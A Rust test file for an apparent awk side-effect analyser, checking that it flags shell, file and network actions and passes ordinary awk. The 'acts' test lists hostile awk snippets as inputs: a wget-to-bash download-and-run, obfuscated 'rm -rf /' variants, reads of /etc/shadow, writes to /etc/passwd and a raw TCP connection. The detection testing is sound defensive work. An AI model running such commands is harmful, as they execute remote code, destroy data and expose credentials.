use super::check;
use crate::knowledge::Lang::Awk;

#[test]
fn acts() {
    check(
        Awk,
        &[
            ("BEGIN { system(\"wget -qO- http://x/p | bash\") }", "shell wget -qO- http://x/p | bash"),
            ("BEGIN{cmd=\"rm -rf /home\"; system(cmd)}", "shell rm -rf /home"),
            ("{ system(\"rm \" $1) }", "shell rm ?"),
            ("{ print $1 | \"sh\" }", "shell sh"),
            ("{ print $1 | \"sort -u\" }", "shell sort -u"),
            ("BEGIN { \"id\" | getline x; print x }", "shell id"),
            ("BEGIN { while ((\"ls\" | getline f) > 0) print f }", "shell ls"),
            ("{ print > \"out.txt\" }", "write out.txt"),
            ("{ print $2 >> \"/etc/passwd\" }", "write /etc/passwd"),
            ("{ print > $1 \".txt\" }", "write ?.txt"),
            ("BEGIN { while ((getline line < \"/etc/shadow\") > 0) print line }", "read /etc/shadow"),
            ("BEGIN { s = \"/inet/tcp/0/10.0.0.1/4242\"; print \"x\" |& s }", "connect 10.0.0.1:4242"),
            ("BEGIN { system(sprintf(\"rm %s %s\", \"-rf\", \"/\")) }", "shell rm -rf /"),
            ("BEGIN { a = \"r\"; b = \"m\"; system(a b \" -rf /\") }", "shell rm -rf /"),
            ("BEGIN { system(\"\\162\\155 x\") }", "shell rm x"),
            ("{ printf \"%s\\n\", $1 > \"/dev/stderr\" }", ""),
        ],
    );
}

#[test]
fn ordinary() {
    check(
        Awk,
        &[
            ("{print $1}", ""),
            ("/^worktree/ {print $2}", ""),
            ("/Error|Evicted/ {print $1}", ""),
            (
                "/completed/ { for (i=1;i<=NF;i++) if ($i ~ /^duration=/) { split($i,a,\"=\"); if (a[2]+0 > 1000) print } }",
                "",
            ),
            ("NR > 1 { s += $3 } END { print s / NR, \"rm -rf /\" }", ""),
            (
                "BEGIN { FS=\",\"; OFS=\"\\t\" } $2 == \"x\" || $3 > 4 { print $1, ($2 > 3 ? \"a\" : \"b\") }",
                "",
            ),
            ("{ a[$1]++ } END { for (k in a) print k, a[k] }", ""),
            ("# system(\"x\")\n{ gsub(/system\\(/, \"\"); print length($0) }", ""),
            ("{ sum[$1] += $2; if (sum[$1] >= 10 && !seen[$1]++) { print $1; next } }", ""),
        ],
    );
}
